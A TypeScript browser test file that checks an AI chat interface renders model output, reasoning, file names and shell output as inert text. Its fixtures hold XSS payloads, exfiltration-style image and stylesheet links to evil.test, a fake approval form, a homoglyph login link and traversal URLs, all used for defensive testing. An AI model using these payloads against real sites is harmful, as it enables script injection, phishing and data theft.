/** Text of models and of others on a page: whatever it holds, no script runs, nothing is asked of anybody else (A10, A38). */
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { expect, test } from 'vitest';
import { eventually, expectAccessible, openBrowser, say, visit } from '../kit/browser.ts';
import { createWebJourney } from '../kit/web-world.ts';

const shell = (command: string) => ({ name: 'execute_shell_command', input: { command } });
/** Each would leave this mark. */
const mark = 'window.hit=(window.hit||0)+1';
const html = `<img src=x onerror="${mark}"><script>${mark}</script><svg onload="${mark}"><animate onbegin="${mark}"/></svg><iframe srcdoc="<script>parent.hit=1</script>"></iframe>`;
const markdown = [
  html,
  `[click](javascript:${mark}) and [data](data:text/html,<script>${mark}</script>) and <javascript:${mark}>`,
  '![one](https://evil.test/a.png?secret=1) ![two][ref] ![three](//evil.test/b.svg) ![four](data:image/svg+xml,<svg onload="x"/>)',
  `<style>@import url(https://evil.test/c.css); * { background: url(https://evil.test/d) }</style><link rel=stylesheet href=https://evil.test/e>`,
  '<form action="https://evil.test"><input name=a><button>Allow once</button></form><meta http-equiv=refresh content="0;url=https://evil.test">',
  `\`\`\`html\n${html}\n\`\`\``,
  `| ${html} | [x](https://evil.test/f "onmouseover=${mark}") |\n|---|---|\n| <base href=https://evil.test/> | &lt;script&gt;${mark}&lt;/script&gt; |`,
  '[xn](https://еxample.org/login) [ref]',
  '',
  '[ref]: https://evil.test/g.png "title"',
].join('\n\n');

test('[A38] Markdown, HTML, SVG, output and file names of others are shown as text and reach nobody', async () => {
  const name = `<img src=x onerror="${mark}">.txt`;
  const journey = await createWebJourney([
    {
      reasoning: html,
      text: 'Looking.',
      calls: [shell(`cat ./*.txt; ls; printf '\\033]0;x\\007%s' '${html.replaceAll("'", '')}'`)],
    },
    {
      calls: [
        { name: 'glob', input: { pattern: '*.txt' } },
        { name: 'read_file', input: { path: name } },
      ],
    },
    { text: markdown },
  ]);
  writeFileSync(path.join(journey.workspace, name), html);
  const { client } = await journey.serve();
  const visitor = await visit(await openBrowser(), client);
  const { page } = visitor;
  await say(page, html);
  await page.locator('.turn-end').waitFor();
  const folded = page.locator('details:not([open]) > summary');
  await eventually(async () => {
    if ((await folded.count()) > 0) await folded.first().click();
    return folded.count();
  }).toBe(0);
  await page.locator('.code code').first().waitFor();
  await visitor.shoot('9-injection');
  expect(await page.evaluate('window.hit')).toBeUndefined();
  expect(
    await page
      .locator('.log :is(script, iframe, style, link, form, object, embed, base, meta, svg:not(.icon))')
      .count(),
  ).toBe(0);
  expect(await page.locator('.log img').count()).toBe(0);
  const addresses = await page
    .locator('.log a')
    .evaluateAll((links) => links.map((link) => String((link as never as { href: string }).href)));
  // Beside those of the text only the app's own: where a step stands in the ledger.
  const others = addresses.filter((address) => !address.startsWith(`${client.url}activity?`));
  expect(others.length).toBeGreaterThan(0);
  expect(others.filter((address) => !address.startsWith('https://'))).toEqual([]);
  expect(visitor.foreignRequests).toEqual([]);
  expect(visitor.problems).toEqual([]);
  // A link says where it leads, and a look-alike of a name is written out.
  expect(await page.getByRole('link', { name: 'xn' }).getAttribute('title')).toBe(
    'Leads to https://xn--xample-2of.org/login',
  );
  await page.getByText('(xn--xample-2of.org)').waitFor();
  expect(await page.getByText('Open at evil.test').count()).toBeGreaterThan(0);
  await expectAccessible(page);
});

test('[A38] the same text as markup would reach somebody: the test can see it', async () => {
  const journey = await createWebJourney([{ text: 'Yes.' }]);
  const { client } = await journey.serve();
  const { page, foreignRequests, problems } = await visit(await openBrowser(), client);
  await page.evaluate(
    'document.body.insertAdjacentHTML(\'beforeend\', \'<iframe src="https://evil.test/a"></iframe><img src=x onerror="window.hit=1">\')',
  );
  // The content policy, the second wall, forbids it: that is told as well.
  await eventually(() => problems.length + foreignRequests.length).toBeGreaterThan(0);
  expect(await page.evaluate('window.hit')).toBeUndefined();
});

test('[A10] an address can open a page and do nothing else', async () => {
  const journey = await createWebJourney([{ text: 'never' }]);
  const { client } = await journey.serve();
  const { page } = await visit(await openBrowser(), client);
  const url = client.url.replace(/\/$/, '');
  for (const address of [
    '/?prompt=rm&send=1#!ls',
    '/chat/none?text=!ls',
    '/chat/..%2f..%2fapi',
    `/chat/${encodeURIComponent('<img src=x onerror=hit=1>')}`,
  ]) {
    await page.goto(url + address);
    await page.getByRole('heading').first().waitFor();
    expect(await page.evaluate('window.hit')).toBeUndefined();
  }
  expect(journey.server.requests).toEqual([]);
});
